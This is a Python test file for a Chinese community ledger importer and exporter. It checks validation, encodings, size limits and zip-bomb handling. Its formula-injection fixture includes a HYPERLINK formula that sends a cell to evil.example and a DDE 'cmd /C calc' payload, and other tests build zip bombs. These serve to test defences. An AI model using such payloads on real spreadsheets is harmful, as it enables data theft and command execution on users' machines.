"""Ledger tables (台账): templates, reading .xlsx/.csv with Chinese headings, writing them back."""

from __future__ import annotations

import csv
import io
import struct
import tracemalloc
import zipfile
from collections.abc import Callable, Iterable
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest

from gis.errors import InvalidInput, TooLarge
from gis.ledger.tabular import (
    INSTRUCTIONS_SHEET,
    MAX_CELL_CHARS,
    MAX_FILE_BYTES,
    MAX_GRID_ROWS,
    TEMPLATES,
    Parsed,
    normalize_heading,
    read_table,
    write_table,
    write_template,
)

WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)


def make_id(region: str, born: date, seq: int) -> str:
    """A valid ID number: ISO 7064 MOD 11-2 check character over the first 17 digits."""
    first17 = f"{region}{born:%Y%m%d}{seq:03d}"
    total = sum(int(d) * w for d, w in zip(first17, WEIGHTS, strict=True))
    return first17 + "10X98765432"[total % 11]


KNOWN_ID = "11010519491231002X"  # a woman born 1949-12-31
MAN = make_id("320102", date(1950, 3, 2), 13)  # odd sequence: a man
WOMAN = make_id("320106", date(1988, 11, 5), 24)
CHILD = make_id("320104", date(2015, 6, 1), 7)


def test_id_helper_matches_the_known_valid_number() -> None:
    assert make_id("110105", date(1949, 12, 31), 2) == KNOWN_ID


def xlsx(*rows: list[Any]) -> bytes:
    """An .xlsx whose first sheet holds ``rows`` from row 1, as a user would type them."""
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def csv_bytes(*rows: list[Any], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode(encoding)


def stripped(parsed: Parsed) -> list[dict[str, Any]]:
    return [{k: v for k, v in row.items() if k != "_row"} for row in parsed.rows]


def where(parsed: Parsed) -> list[tuple[int, str]]:
    return [(e.row, e.column_heading) for e in parsed.errors]


SAMPLES: dict[str, list[dict[str, Any]]] = {
    "residents": [
        {
            "name": "王秀英",
            "gender": "女",
            "birth_date": date(1949, 12, 31),
            "id_number": KNOWN_ID,
            "phone": "13812345678",
            "building": "12幢",
            "room": "0301",
            "relation": "head",
            "status": "both",
            "notes": "=SUM(1,2) 不是公式\n第二行",
        },
        {
            "name": "李建国",
            "gender": "男",
            "birth_date": date(1950, 3, 2),
            "id_number": MAN,
            "phone": "025-84561234",
            "building": "汉中路 8 号",
            "room": "3-1",
            "relation": "spouse",
            "status": "migrant",
            "notes": None,
        },
        {
            "name": "李小雨",
            "gender": "男",
            "birth_date": date(2015, 6, 1),
            "id_number": CHILD,
            "phone": None,
            "building": "12幢",
            "room": "301",
            "relation": None,
            "status": None,
            "notes": None,
        },
    ],
    "organisations": [
        {
            "name": "鼓楼区第一小学",
            "kind": "school",
            "contact_name": "陈老师",
            "phone": "13912345678",
            "address": "北京西路 1 号",
            "notes": "含幼儿园",
        },
        {
            "name": "便民超市",
            "kind": "shop",
            "contact_name": None,
            "phone": None,
            "address": None,
            "notes": None,
        },
    ],
    "special_groups": [
        {"name": "王秀英", "id_number": KNOWN_ID, "category": "elderly_alone", "notes": "每周探访"},
        {"name": "王秀英", "id_number": KNOWN_ID, "category": "disabled", "notes": None},
        {"name": "李小雨", "id_number": CHILD, "category": "left_behind_child", "notes": None},
    ],
    "key_persons": [
        {
            "name": "赵某",
            "id_number": MAN,
            "category": "community_correction",
            "handling": "每月谈话",
            "notes": None,
        },
        {
            "name": "钱某",
            "id_number": WOMAN,
            "category": "petitioner",
            "handling": None,
            "notes": "已化解",
        },
    ],
    "backbone": [
        {"name": "孙红", "id_number": WOMAN, "role": "party_member", "notes": None},
        {"name": "孙红", "id_number": WOMAN, "role": "building_leader", "notes": "12幢"},
        {"name": "李建国", "id_number": MAN, "role": "volunteer", "notes": None},
    ],
}


def test_every_ledger_has_samples_and_chinese_headings() -> None:
    assert (
        set(SAMPLES)
        == set(TEMPLATES)
        == {
            "residents",
            "organisations",
            "special_groups",
            "key_persons",
            "backbone",
        }
    )
    assert TEMPLATES["residents"].title == "居民台账"
    for name, template in TEMPLATES.items():
        assert template.name == name
        assert set(SAMPLES[name][0]) == set(template.keys)
        for col in template.columns:
            assert all("\u4e00" <= ch <= "\u9fff" for ch in col.heading), col.heading


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("ledger", sorted(SAMPLES))
def test_round_trip(ledger: str, fmt: str) -> None:
    rows = SAMPLES[ledger]
    parsed = read_table(write_table(ledger, rows, fmt), f"{ledger}.{fmt}", ledger)  # type: ignore[arg-type]
    assert parsed.errors == [] and parsed.warnings == []
    assert stripped(parsed) == rows
    assert [row["_row"] for row in parsed.rows] == list(range(2, len(rows) + 2))
    assert parsed.total_rows == len(rows)


def test_export_writes_chinese_labels_and_formats_the_sheet() -> None:
    data = write_table("residents", SAMPLES["residents"], "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    headings = [c.value for c in ws[1]]
    assert headings[:4] == ["姓名", "性别", "出生日期", "身份证号"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    status = headings.index("居住状态") + 1
    assert ws.cell(row=2, column=status).value == "户籍在册且常住"
    for heading in ("身份证号", "联系电话"):
        letter = openpyxl.utils.get_column_letter(headings.index(heading) + 1)
        assert ws.column_dimensions[letter].number_format == "@"
        assert ws[f"{letter}2"].number_format == "@"
        assert ws[f"{letter}2"].data_type == "s"
        assert ws.column_dimensions[letter].width >= 14
    notes = ws.cell(row=2, column=headings.index("备注") + 1)
    assert notes.data_type == "s"  # text starting with "=" is not a formula


def test_csv_export_has_bom_and_labels() -> None:
    data = write_table("special_groups", SAMPLES["special_groups"], "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "姓名,身份证号,类别,备注"
    assert lines[1] == f"王秀英,{KNOWN_ID},独居老人,每周探访"


RES_HEAD = [
    "姓名",
    "性别",
    "出生日期",
    "身份证号",
    "联系电话",
    "楼栋",
    "室号",
    "与户主关系",
    "居住状态",
]


def res(name: Any, id_number: Any, gender: Any = None, phone: Any = None, **kw: Any) -> list[Any]:
    return [
        name,
        gender,
        kw.get("born"),
        id_number,
        phone,
        kw.get("building", "5幢"),
        kw.get("room", "101"),
        kw.get("relation"),
        kw.get("status"),
    ]


def bad_rows(scientific: Any) -> list[list[Any]]:
    bad_check = KNOWN_ID[:-1] + "5"
    return [
        RES_HEAD,
        res("王秀英", KNOWN_ID, relation="户主", status="户籍在册"),  # 2
        res("张三", bad_check),  # 3: check character
        res("李四", MAN, phone="1381234"),  # 4: phone
        res(None, WOMAN),  # 5: name missing
        res("钱五", CHILD, gender="女"),  # 6: CHILD is a boy
        res("孙六", make_id("320102", date(1960, 1, 1), 31), relation="邻居"),  # 7: choice
        res("周七", KNOWN_ID),  # 8: same ID as row 2
        res("吴八", scientific),  # 9: Excel turned the ID into a float
        [None] * len(RES_HEAD),  # 10: blank
        res("郑九", make_id("320102", date(1970, 7, 7), 40), phone=13812345678.0),  # 11
    ]


def check_bad_rows(parsed: Parsed) -> None:
    assert where(parsed) == [
        (3, "身份证号"),
        (4, "联系电话"),
        (5, "姓名"),
        (6, "性别"),
        (7, "与户主关系"),
        (8, "身份证号"),
        (9, "身份证号"),
    ]
    by_row = {e.row: e for e in parsed.errors}
    assert "校验位" in by_row[3].reason and "(" in by_row[3].reason
    assert by_row[3].value == KNOWN_ID[:-1] + "5"
    assert by_row[4].value == "1381234"
    assert by_row[5].value is None and "必填" in by_row[5].reason
    assert "“男”" in by_row[6].reason and by_row[6].value == "女"
    assert "户主" in by_row[7].reason and by_row[7].value == "邻居"
    assert "第 2 行" in by_row[8].reason and "row 2" in by_row[8].reason
    assert "文本" in by_row[9].reason and "text" in by_row[9].reason
    assert by_row[9].value == "3.20102E+17"
    assert parsed.total_rows == 9
    assert [row["_row"] for row in parsed.rows] == [2, 11]
    first, last = parsed.rows
    assert first["relation"] == "head" and first["status"] == "registered"
    assert first["gender"] == "女" and first["birth_date"] == date(1949, 12, 31)  # derived
    assert last["phone"] == "13812345678"


def test_bad_rows_xlsx() -> None:
    parsed = read_table(xlsx(*bad_rows(3.20102199001011e17)), "居民.xlsx", "residents")
    check_bad_rows(parsed)


def test_bad_rows_csv() -> None:
    rows = bad_rows("3.20102E+17")
    rows[-1][4] = "13812345678.0"
    check_bad_rows(read_table(csv_bytes(*rows), "居民.csv", "residents"))


def test_id_number_exported_by_excel_with_lost_digits() -> None:
    # Excel keeps 15 significant digits and writes the rest as zeros: an int cell.
    parsed = read_table(xlsx(RES_HEAD, res("吴八", 320102199001011000)), "a.xlsx", "residents")
    assert where(parsed) == [(2, "身份证号")]
    assert "文本" in parsed.errors[0].reason


def test_birth_date_formats_and_mismatch() -> None:
    born = date(1950, 3, 2)
    rows = [RES_HEAD] + [
        res(f"人{i}", make_id("320102", born, 11 + 2 * i), born=value)
        for i, value in enumerate(
            [datetime(1950, 3, 2), "1950-03-02", "1950/3/2", "1950年3月2日", "19500302", 19500302]
        )
    ]
    rows.append(res("错", make_id("320102", born, 99), born="1950-03-03"))
    rows.append(res("无", make_id("320102", born, 97), born="1950-02-30"))
    rows.append(res("乱", make_id("320102", born, 95), born="三月二日"))
    parsed = read_table(xlsx(*rows), "a.xlsx", "residents")
    assert [r["birth_date"] for r in parsed.rows] == [born] * 6
    assert all(r["gender"] == "男" for r in parsed.rows)
    assert where(parsed) == [(8, "出生日期"), (9, "出生日期"), (10, "出生日期")]
    assert "1950-03-02" in parsed.errors[0].reason


def test_title_row_and_decorated_headings() -> None:
    data = xlsx(
        ["XX社区居民台账（2024年）"],
        [],
        ["序号", "姓 名*", "身份证号码（必填）", "*楼栋", "室号 *", "性别", "籍贯"],
        [1, "王秀英", KNOWN_ID, "12幢", 301, None, "江苏"],
        [2, None, None, None, None, None, None],  # only the counter: a blank row
        [3, "李 建 国", MAN, "12幢", "302", "男", None],
    )
    parsed = read_table(data, "a.xlsx", "residents")
    assert parsed.errors == []
    assert parsed.header_row == 3
    assert [w.code for w in parsed.warnings] == ["unknown_column"]
    assert parsed.warnings[0].text("zh") == "未识别的列“籍贯”已忽略"
    assert parsed.warnings[0].text("en") == "Unknown column “籍贯” ignored"
    assert [(r["_row"], r["name"], r["room"]) for r in parsed.rows] == [
        (4, "王秀英", "301"),
        (6, "李建国", "302"),
    ]
    assert parsed.rows[0]["phone"] is None and parsed.rows[0]["gender"] == "女"
    assert parsed.total_rows == 2


def test_gb18030_csv() -> None:
    data = csv_bytes(
        ["名称", "类型", "联系人", "联系电话"],
        ["鼓楼区第一小学", "学校", "陈老师", "139 1234 5678"],
        ["𠀀记商行", "商户", "", ""],  # outside GBK, inside GB 18030
        encoding="gb18030",
    )
    parsed = read_table(data, "单位.csv", "organisations")
    assert parsed.errors == []
    assert [(r["name"], r["kind"], r["phone"]) for r in parsed.rows] == [
        ("鼓楼区第一小学", "school", "13912345678"),
        ("𠀀记商行", "shop", None),
    ]


def test_utf8_csv_with_and_without_bom() -> None:
    rows = [["姓名", "身份证号", "角色"], ["孙红", WOMAN.lower(), "楼栋长"]]
    for encoding in ("utf-8", "utf-8-sig"):
        parsed = read_table(csv_bytes(*rows, encoding=encoding), "b.csv", "backbone")
        assert stripped(parsed) == [
            {"name": "孙红", "id_number": WOMAN, "role": "building_leader", "notes": None}
        ]


def test_missing_required_column_refuses_the_file() -> None:
    data = xlsx(["姓名", "身份证号", "室号"], ["王秀英", KNOWN_ID, "301"])
    parsed = read_table(data, "a.xlsx", "residents")
    assert parsed.rows == [] and parsed.total_rows == 0
    assert where(parsed) == [(0, "楼栋")]
    assert "缺少必填列" in parsed.errors[0].reason and "missing" in parsed.errors[0].reason


def test_duplicates_depend_on_the_ledger() -> None:
    data = csv_bytes(
        ["姓名", "身份证号", "类别"],
        ["王秀英", KNOWN_ID, "独居老人"],
        ["王秀英", KNOWN_ID, "残疾人"],
        ["王秀英", KNOWN_ID.lower(), "独居老人"],
    )
    parsed = read_table(data, "s.csv", "special_groups")
    assert where(parsed) == [(4, "身份证号")]
    assert len(parsed.rows) == 2


def test_choice_accepts_the_stored_key() -> None:
    data = csv_bytes(["姓名", "身份证号", "类别", "处置措施"], ["赵某", MAN, "Drug", "x"])
    parsed = read_table(data, "k.csv", "key_persons")
    assert parsed.rows[0]["category"] == "drug"


def test_room_turned_into_a_date_by_excel() -> None:
    parsed = read_table(
        xlsx(RES_HEAD, res("王", KNOWN_ID, room=datetime(2024, 3, 1))), "a.xlsx", "residents"
    )
    assert where(parsed) == [(2, "室号")]
    assert "文本" in parsed.errors[0].reason


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xls"),
        (b"PK\x03\x04broken", "broken.xlsx"),
        (b"%PDF-1.4", "scan.pdf"),
    ],
)
def test_unreadable_files_are_one_file_error(data: bytes, name: str) -> None:
    parsed = read_table(data, name, "residents")
    assert parsed.rows == [] and len(parsed.errors) == 1 and parsed.errors[0].row == 0


def test_unknown_ledger_or_format() -> None:
    with pytest.raises(InvalidInput):
        read_table(b"", "a.csv", "pets")
    with pytest.raises(InvalidInput):
        write_table("residents", [], "ods")  # type: ignore[arg-type]


@pytest.mark.parametrize("ledger", sorted(TEMPLATES))
def test_template(ledger: str) -> None:
    template = TEMPLATES[ledger]
    wb = openpyxl.load_workbook(io.BytesIO(write_template(ledger, "xlsx")))
    assert wb.sheetnames == [template.title, INSTRUCTIONS_SHEET]
    assert [c.value for c in wb.worksheets[0][1]] == [c.heading for c in template.columns]
    help_rows = list(wb[INSTRUCTIONS_SHEET].iter_rows(values_only=True))
    assert help_rows[0] == ("列名", "是否必填", "可填写的值", "说明")
    listed = {r[0]: r for r in help_rows[1 : len(template.columns) + 1]}
    for col in template.columns:
        assert listed[col.heading][1] == ("必填" if col.required else "选填")
        for label in col.labels:
            assert label in listed[col.heading][2]
    for fmt in ("xlsx", "csv"):
        parsed = read_table(write_template(ledger, fmt), f"t.{fmt}", ledger)  # type: ignore[arg-type]
        assert parsed.errors == [] and parsed.rows == [] and parsed.header_row == 1
    assert write_template(ledger, "csv").decode("utf-8-sig").strip() == ",".join(
        c.heading for c in template.columns
    )


def test_normalize_heading() -> None:
    assert normalize_heading(" 身份证号（必填）* ") == "身份证号"
    assert normalize_heading("＊姓\u3000名") == "姓名"


def test_too_long_text() -> None:
    parsed = read_table(xlsx(RES_HEAD, res("王", KNOWN_ID, room="1" * 41)), "a.xlsx", "residents")
    assert where(parsed) == [(2, "室号")]
    assert "40" in parsed.errors[0].reason


# --------------------------------------------------------------------------- oversized files
# Each attack file is built here from a few KB of deflated XML (deflate packs a repeated
# character about 1000:1), never committed.

SHEET = "xl/worksheets/sheet1.xml"
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)


def inline_row(n: int, *texts: str) -> bytes:
    """One sheet row of inline strings, from column A."""
    cells = "".join(
        f'<c r="{openpyxl.utils.get_column_letter(i)}{n}" t="inlineStr"><is><t>{t}</t></is></c>'
        for i, t in enumerate(texts, start=1)
    )
    return f'<row r="{n}">{cells}</row>'.encode()


def xlsx_with_sheet(rows_xml: Iterable[bytes], shared: str = "") -> bytes:
    """An .xlsx whose first sheet holds ``rows_xml``, deflated while it is written.

    ``shared``: the ``<si>`` items of a sharedStrings.xml (as Excel writes text cells).
    """
    src = zipfile.ZipFile(io.BytesIO(xlsx(["x"])))
    ns = "http://schemas.openxmlformats.org/"
    edits = {
        "xl/_rels/workbook.xml.rels": (
            "</Relationships>",
            f'<Relationship Id="rIdS" Type="{ns}officeDocument/2006/relationships/sharedStrings"'
            ' Target="sharedStrings.xml"/></Relationships>',
        ),
        "[Content_Types].xml": (
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        if shared:
            z.writestr(
                "xl/sharedStrings.xml",
                f'<sst xmlns="{ns}spreadsheetml/2006/main">{shared}</sst>',
            )
        for info in src.infolist():
            if info.filename != SHEET:
                part = src.read(info).decode()
                if shared and info.filename in edits:
                    part = part.replace(*edits[info.filename])
                z.writestr(info, part)
                continue
            with z.open(SHEET, "w") as part:
                part.write(_SHEET_HEAD)
                for chunk in rows_xml:
                    part.write(chunk)
                part.write(b"</sheetData></worksheet>")
    return out.getvalue()


def big_cell_xlsx(megabytes: int) -> bytes:
    """A residents sheet whose cell A2 is an inline string of ``megabytes`` MB."""
    mb = b"A" * 2**20

    def rows() -> Iterable[bytes]:
        yield inline_row(1, "姓名", "身份证号", "楼栋", "室号")
        yield b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
        yield from (mb for _ in range(megabytes))
        yield b"</t></is></c></row>"

    return xlsx_with_sheet(rows())


def declare_size(data: bytes, member: str, size: int) -> bytes:
    """The zip with its central directory lying about the unpacked size of ``member``."""
    out = bytearray(data)
    i = out.index(b"PK\x01\x02")
    while out[i + 46 : i + 46 + struct.unpack_from("<H", out, i + 28)[0]] != member.encode():
        i = out.index(b"PK\x01\x02", i + 4)
    struct.pack_into("<I", out, i + 24, size)
    return bytes(out)


def peak_mb(read: Callable[[], Any]) -> float:
    """Peak memory (MB) Python allocated while ``read`` ran."""
    tracemalloc.start()
    try:
        read()
    except TooLarge:
        pass
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak / 2**20


def test_xlsx_cell_of_40_mb_is_refused_before_it_is_read() -> None:
    # under the 50 MB unpacked cap: the streamed scan finds the long text
    data = big_cell_xlsx(40)
    assert len(data) < 100_000
    with pytest.raises(TooLarge, match="A2") as err:
        read_table(data, "a.xlsx", "residents")
    assert f"{MAX_CELL_CHARS}" in str(err.value) and "shorten it" in str(err.value)
    assert peak_mb(lambda: read_table(data, "a.xlsx", "residents")) < 20


def test_xlsx_cell_over_the_cap_is_refused_inline_shared_or_in_runs() -> None:
    long = "长" * (MAX_CELL_CHARS + 1)
    with pytest.raises(TooLarge, match="B2"):
        read_table(xlsx_with_sheet([inline_row(2, "x", long)]), "a.xlsx", "residents")
    row = b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    fine = xlsx_with_sheet([row], shared="<si><t>姓名</t></si><si><t>身份证号</t></si>")
    assert read_table(fine, "a.xlsx", "residents").header_row is None  # read: 楼栋 is missing
    shared = xlsx_with_sheet([row], shared=f"<si><t>姓名</t></si><si><t>{long}</t></si>")
    with pytest.raises(TooLarge, match=r"\(a cell is longer"):
        read_table(shared, "a.xlsx", "residents")
    half = "长" * (MAX_CELL_CHARS // 2 + 1)
    runs = f"<r><t>{half}</t></r><r><t>{half}</t></r>"  # rich text: one value of two runs
    row = f'<row r="2"><c r="A2" t="inlineStr"><is>{runs}</is></c></row>'.encode()
    with pytest.raises(TooLarge, match="A2"):
        read_table(xlsx_with_sheet([row]), "a.xlsx", "residents")
    # at the cap the cell is read, and the column's own limit reports it
    at_cap = xlsx(RES_HEAD, res("王", KNOWN_ID, room="1" * MAX_CELL_CHARS))
    assert where(read_table(at_cap, "a.xlsx", "residents")) == [(2, "室号")]


def test_xlsx_zip_bomb_is_refused_without_inflating_it() -> None:
    bomb = xlsx_with_sheet([inline_row(1, "姓名"), b" " * (60 * 2**20)])
    assert len(bomb) < 200_000
    with pytest.raises(TooLarge, match="50 MB"):
        read_table(bomb, "a.xlsx", "residents")
    # declared sizes can lie: the part is not inflated past what it claims, nor kept
    liar = declare_size(bomb, SHEET, 1_000)
    assert peak_mb(lambda: read_table(liar, "a.xlsx", "residents")) < 20
    parsed = read_table(liar, "a.xlsx", "residents")
    assert parsed.rows == [] and [e.row for e in parsed.errors] == [0]


def test_xlsx_with_more_rows_than_the_cap() -> None:
    def rows(n: int) -> Iterable[bytes]:
        yield inline_row(1, *RES_HEAD)
        yield from (inline_row(r, "王") for r in range(2, n + 1))

    parsed = read_table(xlsx_with_sheet(rows(MAX_GRID_ROWS)), "a.xlsx", "residents")
    assert parsed.total_rows == MAX_GRID_ROWS - 1
    with pytest.raises(TooLarge, match=f"{MAX_GRID_ROWS} 行.*split the file"):
        read_table(xlsx_with_sheet(rows(MAX_GRID_ROWS + 1)), "a.xlsx", "residents")


def test_csv_of_a_million_short_rows_stops_at_the_cap() -> None:
    line = b"a,,,\r\n"
    data = b",".join(h.encode() for h in RES_HEAD) + b"\r\n" + line * (MAX_FILE_BYTES // 7)
    assert len(data) <= MAX_FILE_BYTES
    with pytest.raises(TooLarge, match="20010 行") as err:
        read_table(data, "a.csv", "residents")
    assert "more than 20,010 rows: split the file" in str(err.value)
    # the text (10 MB) is decoded once; the rows before the cap are all that is kept
    assert peak_mb(lambda: read_table(data, "a.csv", "residents")) < 60
    at_cap = csv_bytes(RES_HEAD, *[["王"]] * (MAX_GRID_ROWS - 1))
    assert read_table(at_cap, "a.csv", "residents").total_rows == MAX_GRID_ROWS - 1


def test_csv_cell_over_the_cap() -> None:
    for size in (MAX_CELL_CHARS + 1, 200_000):  # the second is over csv's own field limit
        data = csv_bytes(RES_HEAD, res("王", KNOWN_ID), res("李", MAN, room="1" * size))
        with pytest.raises(TooLarge, match=r"第 3 行.*a cell in row 3"):
            read_table(data, "a.csv", "residents")


def test_file_over_the_byte_cap() -> None:
    with pytest.raises(TooLarge, match="10 MB"):
        read_table(b"a" * (MAX_FILE_BYTES + 1), "a.csv", "residents")


# --------------------------------------------------------------------------- formula injection

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    {
        "name": '=HYPERLINK("http://evil.example/?"&D2,"点击")',
        "kind": "shop",
        "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "phone": "13912345678",
        "address": "+1+1",
        "notes": "-2+3",
    },
    {
        "name": "'=已经带引号",  # quotes before a trigger get one more, to read back as is
        "kind": "other",
        "contact_name": "''+两个引号",
        "phone": None,
        "address": "'普通引号",  # not before a trigger: left alone
        "notes": "=\t\n多行",  # an .xlsx keeps no \r (XML reads \r\n as \n)
    },
]
PEOPLE = [{**SAMPLES["residents"][0], "name": "-张三", "room": "-1", "notes": "@备注"}]


def test_csv_export_neutralises_formulas() -> None:
    data = write_table("organisations", FORMULAS, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1] == [
        '\'=HYPERLINK("http://evil.example/?"&D2,"点击")',
        "商户",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "13912345678",
        "'+1+1",
        "'-2+3",
    ]
    assert rows[2] == ["''=已经带引号", "其他", "'''+两个引号", "", "'普通引号", "'=\t\n多行"]
    for trigger in ("\t", "\r"):
        one = write_table("organisations", [{**FORMULAS[1], "notes": f"{trigger}=1+1"}], "csv")
        cells = list(csv.reader(io.StringIO(one.decode("utf-8-sig"), newline="")))[1]
        assert cells[-1] == f"'{trigger}=1+1"
    data = write_table("residents", PEOPLE, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'-张三" and rows[1][6] == "'-1" and rows[1][-1] == "'@备注"
    assert rows[1][3] == KNOWN_ID and rows[1][4] == "13812345678"  # numbers stay in clear
    for row in rows:
        assert not any(cell.startswith(TRIGGERS) for cell in row)


def test_csv_with_neutralised_formulas_reads_back_unchanged() -> None:
    data = write_table("organisations", FORMULAS, "csv")
    parsed = read_table(data, "o.csv", "organisations")
    assert parsed.errors == []
    assert stripped(parsed) == FORMULAS
    assert write_table("organisations", stripped(parsed), "csv") == data
    data = write_table("residents", PEOPLE, "csv")
    assert stripped(read_table(data, "r.csv", "residents")) == PEOPLE


def test_xlsx_export_writes_formulas_as_text() -> None:
    data = write_table("organisations", FORMULAS, "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for r in (2, 3):
        for cell in ws[r]:
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert ws["A2"].value == FORMULAS[0]["name"]  # as written: a text cell needs no quote
    sheet = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    assert b"<f>" not in sheet and b"<f " not in sheet
    assert stripped(read_table(data, "o.xlsx", "organisations")) == FORMULAS


def test_tabular_still_offers_the_names_other_modules_import() -> None:
    from gis.ledger import cells, sheetfile, sheetwrite, tabular, templates

    assert tabular.TEMPLATES is templates.TEMPLATES
    assert tabular.get_template("backbone") is templates.TEMPLATES["backbone"]
    assert tabular.MAX_FILE_BYTES == sheetfile.MAX_FILE_BYTES
    assert tabular.FILE_TOO_LARGE == sheetfile.FILE_TOO_LARGE
    assert tabular.write_table is sheetwrite.write_table
    assert cells.unneutralise(cells.neutralise("'=1")) == "'=1"
